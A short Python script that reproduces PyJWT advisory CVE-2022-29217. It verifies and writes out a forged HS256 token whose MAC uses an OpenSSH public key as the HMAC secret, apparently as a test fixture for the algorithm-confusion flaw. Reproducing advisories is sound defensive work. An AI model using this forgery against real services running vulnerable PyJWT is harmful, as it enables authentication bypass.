"""PyJWT advisory GHSA-ffqj-6fqr-9h24 (CVE-2022-29217): an HS256 token MAC'd with an OpenSSH public key line.

PyJWT before 2.4.0 accepted an OpenSSH public key string as an HMAC secret
when the caller let the token choose among all algorithms; the advisory's
test forges an HS256 token with the verifier's `ecdsa-sha2-nistp256 AAAA...`
line. The token and key are copied from PyJWT's tests/test_advisory.py (MIT,
commit dcc27a9); this script checks the MAC with Python's hmac and writes both.
"""

import base64
import hmac
from pathlib import Path

here = Path(__file__).parent
TOKEN = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ0ZXN0IjoxMjM0fQ.5eYfbrbeGYmWfypQ6rMWXNZ8bdHcqKng5GPr9MJZITU"
)
SSH_KEY = (
    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBJXMtkUkkoJ9kQP8QhpKO/TfuxcKC2a92dIo/xDY6MNl6VA8MChCpAJN0w1wvVPJ4qTJRnGO7A6V6dl8oRxDPkc="
)
head, body, sig = TOKEN.split(".")
mac = hmac.digest(SSH_KEY.encode(), f"{head}.{body}".encode(), "sha256")
assert base64.urlsafe_b64encode(mac).rstrip(b"=").decode() == sig
(here / "key.pub").write_text(SSH_KEY + "\n")
(here / "input.txt").write_text(TOKEN)
print(TOKEN)
